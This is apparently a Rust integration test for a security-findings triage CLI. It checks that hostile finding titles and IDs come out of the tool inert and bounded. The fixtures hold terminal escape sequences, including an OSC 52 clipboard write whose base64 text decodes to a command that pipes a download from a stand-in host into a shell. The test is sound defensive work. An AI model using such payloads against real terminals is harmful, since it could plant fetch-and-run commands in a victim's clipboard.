//! Hostile findings end to end: a 1 MB title full of escape sequences, thousands of resources on one finding, NUL and
//! bidi overrides, an invalid UTF-16 escape. The output of `plan` stays inert and bounded, and one bad file does not
//! stop the others.

use assert_cmd::Command;
use serde_json::{json, Value};

#[path = "common/hostile.rs"]
mod hostile_asff;

/// The hostile findings' description: an OSC 52 clipboard write.
fn finding(id: &str, title: String, resources: Vec<Value>) -> Value {
    hostile_asff::finding(id, title, "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}copy this".into(), resources)
}

#[test]
fn hostile_findings_come_out_inert_and_bounded() {
    let dir = tempfile::tempdir().expect("dir");
    let evil = "\u{1b}[2J\u{1b}]52;c;ZWNobyBwd25lZA==\u{7}\u{202e}\u{0}\u{9b}31m\u{1b}P1$r\u{1b}\\\
                \u{9d}52;c;ZWNobyBwd25lZA==\u{9c}\u{200b}\u{feff}\u{e0041}";
    let huge_title = format!("{evil}{}", "A".repeat(1 << 20));
    let many: Vec<Value> = (0..5000)
        .map(|i| json!({"Type": "AwsEc2SecurityGroup", "Id": format!("arn:aws:ec2:eu-west-1:111111111111:security-group/sg-{i:017x}{evil}")}))
        .collect();
    let one = finding("hostile-1", huge_title, many);
    let two = finding(
        &format!("hostile-2{evil}"),
        format!("short {evil} title"),
        vec![json!({"Type": "AwsS3Bucket", "Id": format!("arn:aws:s3:::b{evil}")})],
    );
    std::fs::write(dir.path().join("a.json"), serde_json::to_vec(&json!([one, two])).expect("json")).expect("write");
    // A lone surrogate escape is not valid JSON text: that file is reported, the others load.
    std::fs::write(dir.path().join("b.json"), r#"{"Findings": [{"Id": "x\ud800", "ProductArn": "p", "Title": "t"}]}"#)
        .expect("write");

    for format in ["table", "json"] {
        let output = Command::cargo_bin("hubtriage")
            .expect("binary")
            .env("HOME", dir.path())
            .env("HUBTRIAGE_LOG", dir.path().join("log"))
            .arg("--findings")
            .arg(dir.path())
            .args(["plan", "--format", format])
            .timeout(std::time::Duration::from_secs(60))
            .output()
            .expect("runs");
        let stdout = &output.stdout;
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "partial: b.json could not be read\n{stderr}");
        assert!(stderr.contains("b.json"), "{stderr}");
        for bad in [0x1b_u8, 0x07, 0x00] {
            assert!(!stdout.contains(&bad), "{format}: control byte {bad:#x} in the output");
        }
        let text = String::from_utf8_lossy(stdout);
        for bad in ['\u{202e}', '\u{9b}', '\u{9d}', '\u{9c}', '\u{200b}', '\u{feff}', '\u{e0041}'] {
            assert!(!text.contains(bad), "{format}: {bad:?} in the output");
        }
        assert!(!text.contains("52;c;"), "{format}: the OSC 52 payloads went with their sequences");
        assert!(
            stdout.len() < 200_000,
            "{format}: a 1 MB title and 5,000 resources stay bounded: {} bytes",
            stdout.len()
        );
        if format == "table" {
            assert_eq!(text.lines().filter(|l| l.contains("EC2.13")).count(), 2, "both findings listed:\n{text}");
        } else {
            let entries: Vec<Value> = serde_json::from_slice(stdout).expect("JSON");
            assert_eq!(entries.len(), 2);
        }
    }
}
